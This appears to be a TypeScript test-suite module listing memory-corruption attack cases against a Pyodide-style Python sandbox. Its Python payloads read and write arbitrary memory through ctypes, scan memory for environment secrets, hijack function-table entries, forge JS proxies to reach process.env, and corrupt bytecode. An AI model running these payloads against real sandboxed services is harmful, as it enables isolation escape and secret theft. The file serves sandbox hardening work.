import { attack } from "../attack.ts";
import { FAILS, FORGED } from "./frame-code.ts";

/** `peek` and `poke` reach every word of the linear memory with plain loads and stores: no call leaves the interpreter. */
const MEMORY = String.raw`
import ctypes
def peek(address):
    return ctypes.c_uint32.from_address(address).value
def poke(address, value):
    ctypes.c_uint32.from_address(address).value = value & 0xFFFFFFFF
def size():
    return max(id(thing) for thing in ([], {}, object(), bytearray(1))) + 65536
`;

const own = { isForStock: false } as const;

const code = (text: string): string => {
  const lines = text.split("\n").filter((line) => line.trim() !== "");
  const least = Math.min(...lines.map((line) => line.length - line.trimStart().length));
  return MEMORY + lines.map((line) => line.slice(least)).join("\n");
};

/** Writes at random places, over and over, while the interpreter goes on working. */
const noise = (seed: number, from: string, to: string): string =>
  code(String.raw`
    import json, os, re
    state = ${seed}
    def next_number():
        global state
        state = (state * 1664525 + 1013904223) & 0xFFFFFFFF
        return state
    low, high = ${from}, ${to}
    for turn in range(4000):
        poke(low + next_number() % (high - low) // 4 * 4, next_number() >> (next_number() % 24))
        if turn % 50 == 0:
            try:
                os.write(1, b"still here\n")
                json.loads(json.dumps({"a": [1, 2.5, None]}))
                re.sub("a+", "b", "caat")
                open("/work/x", "w").write("x")
            except Exception:
                pass
  `);

/** Calls entries of the function table through a method whose pointer was replaced. */
const tableCall = (first: string, count: number): string =>
  FORGED +
  code(String.raw`
    method = id(len)
    # A builtin points to its PyMethodDef, whose second word is the index of its function in the table.
    definition = peek(method + 8)
    text = ctypes.create_string_buffer(b"@unfra" b"med@\n" + FORGED)
    held = ctypes.addressof(text)
    real = peek(definition + 4)
    for index in range(${first}, ${first} + ${count}):
        poke(definition + 4, index)
        try:
            len(held)
        except BaseException as error:
            print(index, type(error))
        poke(definition + 4, real)
  `) +
  FAILS;

/** The attacker owns the linear memory, as any hole in CPython would let him. */
export const memoryAttacks = [
  attack(
    "memory.fill",
    "memory",
    code(`
    top = size()
    (ctypes.c_char * (top - 4096)).from_address(4096)[:] = b"A" * (top - 4096)
  `),
    own,
  ),
  attack("memory.noise-heap", "memory", noise(1, "size() // 2", "size()"), own),
  attack("memory.noise-data", "memory", noise(2, "1024", "4 * 2**20"), own),
  attack("memory.noise-stack", "memory", noise(3, "4 * 2**20", "10 * 2**20"), own),
  attack("memory.noise-everywhere", "memory", noise(4, "1024", "size()"), own),
  attack(
    "memory.read-all",
    "memory",
    code(`
      top = size()
      for start in range(0, top - 65536, 65536):
          block = (ctypes.c_char * 65536).from_address(start).raw
          for word in (b"@env@", b"/proc/", b"secret"):
              at = block.find(word)
              if at >= 0:
                  print(block[max(0, at - 64):at + 256])
    `),
    own,
  ),
  attack("memory.table-head", "memory", tableCall("1", 40), own),
  attack("memory.table-imports", "memory", tableCall("8733", 300), own),
  attack("memory.table-tail", "memory", tableCall("14170", 40), own),
  attack("memory.table-beyond", "memory", tableCall("2**31 - 2", 4), own),
  attack(
    "memory.forged-proxy",
    "memory",
    code(`
      import gc
      kinds = [kind for kind in gc.get_objects() if isinstance(kind, type) and kind.__name__ == "JsProxy"]
      def below(kind):
          for child in type.__subclasses__(kind):
              yield child
              yield from below(child)
      kinds += [kind for kind in below(object) if kind.__name__.startswith("Js")]
      print(kinds)
      class Box:
          __slots__ = ("a", "b", "c", "d", "e", "f")
      for kind in kinds:
          for reference in range(1, 60):
              box = Box()
              address = id(box)
              for offset in range(8, 32, 4):
                  poke(address + offset, reference)
              poke(address + 4, id(kind))
              try:
                  print(kind, reference, box.constructor.constructor('return process.env["@env@"]')())
              except Exception as error:
                  print(error)
    `),
    own,
  ),
  attack(
    "memory.forged-reference",
    "memory",
    code(`
      from pyodide.ffi import to_js
      thing = to_js([1])
      for offset in range(8, 32, 4):
          before = peek(id(thing) + offset)
          for reference in range(0, 400):
              poke(id(thing) + offset, reference)
              try:
                  print(thing.process.env["@env@"])
              except Exception:
                  pass
          poke(id(thing) + offset, before)
    `),
    own,
  ),
  attack(
    "memory.bytecode",
    "memory",
    String.raw`
      import types
      def victim():
          return 0
      for seed in range(200):
          raw = bytes((seed * 7 + place * 13) % 256 for place in range(64))
          try:
              victim.__code__ = victim.__code__.replace(co_code=raw, co_stacksize=1, co_consts=(), co_names=())
              victim()
          except Exception as error:
              print(seed, type(error))
    `,
    { ...own, limits: { wallMs: 2000 } },
  ),
  attack(
    "memory.load-const",
    "memory",
    String.raw`
      import opcode
      fake = bytearray(64)
      def victim():
          return 0
      load = opcode.opmap["LOAD_CONST"]
      wide = opcode.opmap["EXTENDED_ARG"]
      give = opcode.opmap["RETURN_VALUE"]
      for far in range(1, 200):
          raw = bytes([wide, far, load, 7, give, 0])
          victim.__code__ = victim.__code__.replace(co_code=raw)
          try:
              print(repr(victim())[:80])
          except Exception as error:
              print(error)
    `,
    own,
  ),
  attack(
    "memory.freed-object",
    "memory",
    code(`
      import gc
      things = [bytearray(100) for _ in range(100)]
      for thing in things[::2]:
          poke(id(thing), 1)
          extra = thing
          del extra
      things.clear()
      gc.collect()
      fresh = [memoryview(bytes([65]) * 100) for _ in range(100)]
      print(len(fresh))
    `),
    own,
  ),
];
